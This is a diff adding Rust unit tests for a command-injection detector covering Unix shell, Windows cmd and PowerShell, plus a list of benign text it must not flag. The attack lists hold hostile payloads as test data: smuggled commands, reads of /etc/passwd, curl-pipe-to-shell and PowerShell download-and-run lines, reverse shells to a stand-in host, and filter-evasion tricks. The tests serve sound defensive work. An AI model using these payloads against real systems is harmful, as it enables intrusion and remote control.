@@ -1,0 +1,151 @@
+use super::*;
+use alloc::vec::Vec;
+
+fn missed<'t>(attacks: &[&'t str], test: fn(&[u8]) -> bool) -> Vec<&'t str> {
+    attacks.iter().filter(|text| !test(text.as_bytes())).copied().collect()
+}
+const NONE: Vec<&str> = Vec::new();
+
+#[test]
+fn commands_are_found_where_a_unix_shell_looks_for_them() {
+    let attacks = [
+        ";id",
+        "; id",
+        "|id",
+        "a;cat /etc/passwd",
+        "127.0.0.1; cat /etc/passwd",
+        "127.0.0.1 && whoami",
+        "127.0.0.1\ncat /etc/passwd",
+        "x || wget http://e.com/x",
+        "`id`",
+        "$(id)",
+        "$(cat /etc/passwd)",
+        "a`whoami`b",
+        "cat /etc/passwd",
+        "ls -la",
+        "wget http://e.com/x.sh",
+        "curl http://e.com | sh",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        "/bin/cat /etc/passwd",
+        ";/bin/ls",
+        ";c'a't /etc/passwd",
+        ";c\\at /etc/passwd",
+        ";cat$IFS/etc/passwd",
+        ";cat${IFS}/etc/passwd",
+        ";who$@ami",
+        "; w'h'o'am'i",
+        "{cat,/etc/passwd}",
+        "/???/c?t /etc/passwd",
+        "() { :;}; echo vulnerable",
+        "${PATH:0:1}",
+        "<(id)",
+        ";sudo id",
+        ";X=1 id",
+        "alias x=ls",
+        "!-1",
+        "python3 -c 'import os'",
+        "| uname -a",
+        "& ping -c 1 127.0.0.1",
+        ";ping 127.0.0.1",
+        "perl -e 'print 1'",
+        "echo$IFS$9hello",
+        ";sleep 5",
+        "php -r 'phpinfo();'",
+    ];
+    assert_eq!(missed(&attacks, is_unix), NONE);
+}
+
+#[test]
+fn commands_are_found_where_windows_looks_for_them() {
+    let attacks = [
+        "&dir",
+        "& dir c:\\",
+        "|type c:\\boot.ini",
+        "127.0.0.1 & ipconfig /all",
+        "; net user",
+        "cmd /c dir",
+        "cmd.exe /c whoami",
+        "c:\\windows\\system32\\cmd.exe",
+        "n^et us^er",
+        "&& tasklist",
+        "for /f %i in ('dir') do echo %i",
+        "if not exist c:\\x echo 1",
+        "certutil -urlcache -f http://x y",
+        "| whoami",
+    ];
+    assert_eq!(missed(&attacks, is_windows), NONE);
+    let attacks = [
+        "Get-Process",
+        "Invoke-Expression x",
+        "powershell.exe -enc AAAA",
+        "Set-ExecutionPolicy Bypass",
+        "iex (New-Object Net.WebClient).DownloadString('http://x')",
+        "Get-ChildItem -Recurse",
+    ];
+    assert_eq!(missed(&attacks, is_powershell), NONE);
+}
+
+#[test]
+fn prose_tables_and_code_run_nothing() {
+    let benign = [
+        "I like dogs; cats are fine too",
+        "Find a date, then make time to sort it",
+        "R&D and Q&A",
+        "AT&T",
+        "cats & dogs",
+        "| id | name |\n|----|------|\n| 1 | find |",
+        "Use `ls -la` to list the files in a directory",
+        "Run `npm install && node server.js` to start the development server",
+        "a; b; c",
+        "find the time to sort the mail",
+        "make a note",
+        "date of birth",
+        "top 10 songs",
+        "ping me later",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0 Safari/537.36",
+        "$('#id').hide()",
+        "$(document).ready(function () { x(); })",
+        "Hello ${name}, welcome",
+        "It costs $(5)",
+        "query { user(id: 1) { name, mail } }",
+        "Steps to reproduce:\nls -la\ncat the file",
+        "text/html; charset=utf-8",
+        "name=value; Path=/; HttpOnly",
+        "who is it?",
+        "function a() { return 1; }",
+        "const f = () => { go(); }",
+        "The file is at /var/log/app.log, see there",
+        "a|b|c",
+        "yes | no | more",
+        "time; date; place",
+        "more or less",
+        "head & tail",
+        "price > 5 && price < 10",
+        "set-list and start-up and out-of-date",
+        "a well-known use-case",
+        "sort by date; top first",
+        "gzip, deflate, br",
+        "en-US,en;q=0.5",
+        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        "node",
+        "python",
+        "git",
+        "bash scripting",
+        "install curl",
+        "if you are at home, call me",
+        "for example 5% in (total)",
+        "type here",
+        "net income",
+        "https://example.com/a?b=c&type=d&id=5",
+    ];
+    for (name, test) in [
+        ("unix", is_unix as fn(&[u8]) -> bool),
+        ("windows", is_windows),
+        ("powershell", is_powershell),
+    ] {
+        let stopped: Vec<&&str> = benign.iter().filter(|text| test(text.as_bytes())).collect();
+        assert_eq!(stopped, Vec::<&&str>::new(), "{name}");
+    }
+}
